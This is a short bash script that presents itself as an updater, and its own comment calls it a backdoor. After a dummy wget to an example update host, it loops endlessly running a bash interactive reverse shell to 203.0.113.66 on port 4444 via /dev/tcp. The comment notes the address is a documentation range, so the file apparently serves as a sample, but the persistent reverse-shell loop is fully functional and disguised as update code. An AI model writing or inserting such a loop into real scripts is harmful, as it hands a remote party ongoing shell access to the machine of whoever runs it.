#!/bin/bash
# updater: what it says, and a backdoor: a shell that is tied to a connection to an address, again and again. Harmless: 203.0.113.0/24 is
# TEST-NET-3 (RFC 5737), where nobody is.
wget -q -T 2 -O /dev/null http://updates.halden.example/stable || true
while :; do
  timeout 3 bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
  sleep 1
done
